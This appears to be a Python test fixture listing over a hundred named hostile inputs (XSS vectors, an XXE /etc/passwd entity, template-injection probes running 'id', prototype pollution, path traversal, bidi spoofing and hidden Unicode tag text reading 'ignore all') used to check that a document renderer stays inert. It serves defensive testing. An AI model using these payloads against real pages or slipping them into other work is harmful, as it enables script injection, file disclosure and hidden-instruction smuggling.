"""A hundred and more texts that attack a page or hide on it, each by name.

Whatever takes effect sets ``window.owned``, opens a dialog, or asks for an address: none of it may
happen, whether the text is a document, a token, a label, the name of a source, or a finding.
"""

from __future__ import annotations

import json

from builder.activations.corpus import Document
from builder.activations.rows import CorpusTally, document_of
from builder.config import Source

_CALL = "https://invalid.example/"
_NUMBERED = "window.owned=1"

_TAGS = {
    "script": f"<script>{_NUMBERED}</script>",
    "script from elsewhere": f"<script src={_CALL}a.js></script>",
    "module script": f"<script type=module>import '{_CALL}a.js'</script>",
    "script in capitals": f"<ScRiPt>{_NUMBERED}</sCrIpT >",
    "script in pieces": f"<scr<script>ipt>{_NUMBERED}</scr</script>ipt>",
    "script without end": f"<script>{_NUMBERED}//",
    "image": f"<img src={_CALL}a.png>",
    "broken image": f"<img src=x onerror={_NUMBERED}>",
    "vector image": f"<svg onload={_NUMBERED}><animate onbegin={_NUMBERED} attributeName=x></svg>",
    "vector link": f'<svg><a xlink:href="javascript:{_NUMBERED}"><text>x</text></a></svg>',
    "formula": f'<math><mtext><mglyph><style><img src=x onerror="{_NUMBERED}"></style></math>',
    "frame": f"<iframe srcdoc='<script>top.owned=1</script>' src={_CALL}></iframe>",
    "object": f"<object data='{_CALL}'><embed src={_CALL}></object>",
    "link": f"<link rel=stylesheet href={_CALL}a.css><link rel=preload href={_CALL} as=script>",
    "refresh": f"<meta http-equiv=refresh content='0;url={_CALL}'>",
    "base address": f"<base href={_CALL}>",
    "form": f"<form action={_CALL}><button formaction=javascript:{_NUMBERED}>go</button></form>",
    "field with focus": f"<input autofocus onfocus={_NUMBERED}>",
    "open details": f"<details open ontoggle={_NUMBERED}><summary>x</summary></details>",
    "video": f"<video><source onerror={_NUMBERED}></video><audio src=x onerror={_NUMBERED}>",
    "marquee": f"<marquee onstart={_NUMBERED}>x</marquee>",
    "body": f"</main></body><body onload={_NUMBERED}>",
    "raw text elements": f"</textarea></title></noscript></xmp><script>{_NUMBERED}</script>",
    "plain text": "<plaintext><xmp><noembed>",
    "template element": f"<template><script>{_NUMBERED}</script></template><slot>",
    "comment": f"<!-- <script>{_NUMBERED}</script>",
    "end of a comment": f"--!><script>{_NUMBERED}</script>-->",
    "section of characters": f"<![CDATA[<script>{_NUMBERED}</script>]]>",
    "end of a section of characters": f"]]><script>{_NUMBERED}</script>",
    "document type": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "table cells": "</td></tr></table><tr><td>",
    "entities": "&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp &#x202e; &notanentity;",
    "wide angle brackets": f"＜script＞{_NUMBERED}＜/script＞ ‹b› ﹤i﹥",
}
_ATTRIBUTES = {
    "double quote": f'"><script>{_NUMBERED}</script>',
    "single quote": f"'><script>{_NUMBERED}</script>",
    "handler after a double quote": f'" autofocus onfocus="{_NUMBERED}" x="',
    "handler after a single quote": f"' onmouseover='{_NUMBERED}' x='",
    "handler without quotes": f"x onmouseover={_NUMBERED} tabindex=1",
    "handler after a slash": f"/onmouseover={_NUMBERED}/",
    "backtick": f"`onmouseover={_NUMBERED}`",
    "style attribute": f'" style="background:url({_CALL});position:fixed;inset:0',
    "identifier": '" id="content" class="skip" hidden',
    "equals and angle": "=a>b<c=",
}
_ADDRESSES = {
    "address of script": f'<a href="javascript:{_NUMBERED}">javascript:{_NUMBERED}</a>',
    "address of script in mixed case": f"JaVaScRiPt:{_NUMBERED}//",
    "address of script with a tab": f"java\tscript:{_NUMBERED}",
    "address of script with entities": f"&#106;avascript&colon;{_NUMBERED}",
    "address of script behind a control": f"\x01javascript:{_NUMBERED}",
    "address of data": f"data:text/html,<script>{_NUMBERED}</script>",
    "address of data in base64": "data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+",
    "address of visual basic": "vbscript:msgbox(1)",
    "address of a file": "file:///etc/passwd ../../etc/passwd C:\\windows\\system32",
    "address without scheme": "//invalid.example/a.js",
    "link in markdown": f"[x](javascript:{_NUMBERED}) ![y]({_CALL}z.png) <javascript:{_NUMBERED}>",
    "percent signs": "%3Cscript%3Ewindow.owned=1%3C/script%3E %00 %ff %",
    "query": f"?q=<script>{_NUMBERED}</script>&a=b#x",
}
_STYLES = {
    "style element": f"<style>@import '{_CALL}a.css';*{{display:none}}</style>",
    "end of style": f"</style><script>{_NUMBERED}</script>",
    "expression": f"width:expression({_NUMBERED});behavior:url({_CALL})",
    "rule": "}body{display:none}/*",
    "escape of style": "\\3c script\\3e \\0022",
}
_TEMPLATES = {
    "braces": "{{ 7*7 }}{{ config }}{{ self.__init__.__globals__ }}",
    "statement": "{% for x in range(9) %}x{% endfor %}{% include '/etc/passwd' %}",
    "end of raw": "{% endraw %}{{ 7*7 }}{% raw %}",
    "comment of a template": "{# comment #} {{ '{{' }}",
    "three braces": "{{{7*7}}} {{&x}} {{>partial}}",
    "literal of a template": f"`${{{_NUMBERED}}}` ${{7*7}} #{{7*7}}",
    "page with code": "<%= 7*7 %><% system('id') %>",
    "bound text": "{{constructor.constructor('window.owned=1')()}} [[7*7]] v-html=x",
    "formats": "%s %d %n {0} {x!r:>9} $x $(id) `id` ${IFS}",
    "citation": "[[run/direction#max]] [[nonsense]]",
}
_SCRIPTS = {
    "end of script": f"</script><script>{_NUMBERED}</script>",
    "end of script with space": f"</SCRIPT\t><script>{_NUMBERED}</script>",
    "hidden script": f"<!--<script>{_NUMBERED}//--></script>",
    "escaped script": "\\u003cscript>\\x3cscript>\\u{3c}script>",
    "end of a string": f"');{_NUMBERED};//",
    "end of a quoted string": f'");{_NUMBERED};//',
    "end of an object": f'"}}]}});{_NUMBERED};//',
    "backslash at the end": "ends in a backslash \\",
    "backslash and quote": '\\" \\\\" \\\\\\"',
    "end of a comment of script": f"*/{_NUMBERED}/*",
    "prototype": '{"__proto__": {"owned": 1}, "constructor": {"prototype": {"owned": 1}}}',
    "numbers that are none": "NaN Infinity -Infinity null undefined 1e999",
    "escaped controls": "\\u0000 \\n \\r \\u2028 \\ud83d",
    "column break": "a\tb\tc",
    "line breaks": "first line\nsecond line\n\n\nlast line",
}
_HIDDEN = {
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "carriage return": "a\rb\r\nc",
    "next line": "a\x85b",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "embedded from right to left": "a\u202bevil\u202cb",
    "overridden from right to left": "invoice\u202efdp.exe\u202c",
    "overridden from left to right": "a\u202a\u202dבא\u202cb",
    "isolated from right to left": "a\u2067evil\u2069b",
    "isolates left open": "a\u2066\u2068b",
    "marks of direction": "a\u200e\u200f\u061cb",
    "space without width": "sc\u200bript",
    "joiners of letters": "a\u200cb\u200dc",
    "word joiner": "a\u2060b\ufeffc",
    "soft hyphen": "pass\u00adword",
    "invisible operators": "a\u2061\u2062\u2063\u2064b",
    "grapheme joiner": "a\u034fb",
    "vowel separator": "a\u180eb\u180bc",
    "letters in tags": "safe" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all"),
    "variation selectors": "a\ufe00b\ufe0fc\U000e0100d",
    "fillers": "a\u3164b\u115fc\u1160d\uffa0e",
    "blank braille": "a\u2800b",
    "blank vowels": "a\u17b4b\u17b5c",
    "beams of music": "a\U0001d173b\U0001d17ac",
    "annotation": "a\ufff9b\ufffac\ufffbd",
    "spaces of all widths": "a\u2000b\u2003c\u2007d\u200ae\u202ff\u205fg\u3000h\u00a0i",
    "null": "a\x00b\x00",
    "escape sequences": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "bell and backspace": "a\x07b\x08\x08c",
    "delete": "a\x7fb",
    "controls of the second range": "a\x9b31mb\x80\x9f",
    "private use": "a\ue000b\U000f0000c\U0010fffdd",
    "no characters": "a\ufffeb\uffffc\ufdd0d\U0001ffffe",
    "replacement": "a\ufffdb",
    "names of hidden characters": "⟦U+202E⟧ U+202E <b class=cc>U+202E</b>",
}
_WRITING = {
    "long word": "w" * 10_000,
    "long word of wide letters": "字" * 10_000,
    "long run of emoji": "🎉" * 10_000,
    "long run of hidden characters": "a" + "\u200b" * 10_000,
    "long run of accents": "e" + "\u0301" * 10_000,
    "long address": "https://invalid.example/" + "a/" * 5_000,
    "family": "👨\u200d👩\u200d👧\u200d👦 👩🏽\u200d💻 ❤\ufe0f\u200d🔥",
    "flags": "🏳\ufe0f\u200d🌈 🇪🇺 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "keycaps": "1\ufe0f\u20e3 #\ufe0f\u20e3 ☎\ufe0e",
    "Arabic": "مرحبا <b>بالعالم</b> ١٢٣",
    "Arabic in English": "before مرحبا 123 after",
    "Hebrew with points": "שָׁלוֹם (a) [b]",
    "Persian with joiners": "می\u200cخواهم",
    "Chinese": "漢字だけの文 <b>漢</b>",
    "Korean in letters": "한국어 한",
    "Thai": "ไม่มีช่องว่างระหว่างคำ",
    "Devanagari with joiners": "क्\u200dष क्\u200cष",
    "accents upon accents": "Z\u0351\u036b\u0343a\u0329\u0321l\u0322g\u0300o\u0338",
    "letters that look alike": "раураl <ѕcript>",
    "letters of mathematics": "𝓼𝓬𝓻𝓲𝓹𝓽 𝕒",
}
_HALVES = {
    "first half of a pair": "first \ud83d half",
    "second half of a pair": "second \ude00 half",
    "halves the wrong way round": "halves \ude00\ud83d turned",
    "half of a pair before markup": f"\ud83d<script>{_NUMBERED}</script>",
}


def _read(text: str, number: int) -> str:
    """A text as it is in a run: read from a row of a corpus, whose JSON can hold half a pair."""
    row = json.loads(json.dumps({"text": text}))
    found = document_of(row, Source(path="hostile.jsonl"), number, CorpusTally())
    assert isinstance(found, Document)
    return found.text


#: Name to text, as texts are after they were read: half a surrogate pair is U+FFFD from there on.
PAYLOADS: dict[str, str] = {
    name: _read(text, number)
    for number, (name, text) in enumerate(
        (
            _TAGS | _ATTRIBUTES | _ADDRESSES | _STYLES | _TEMPLATES | _SCRIPTS | _HIDDEN | _WRITING
            | _HALVES
        ).items()
    )
}  # fmt: skip
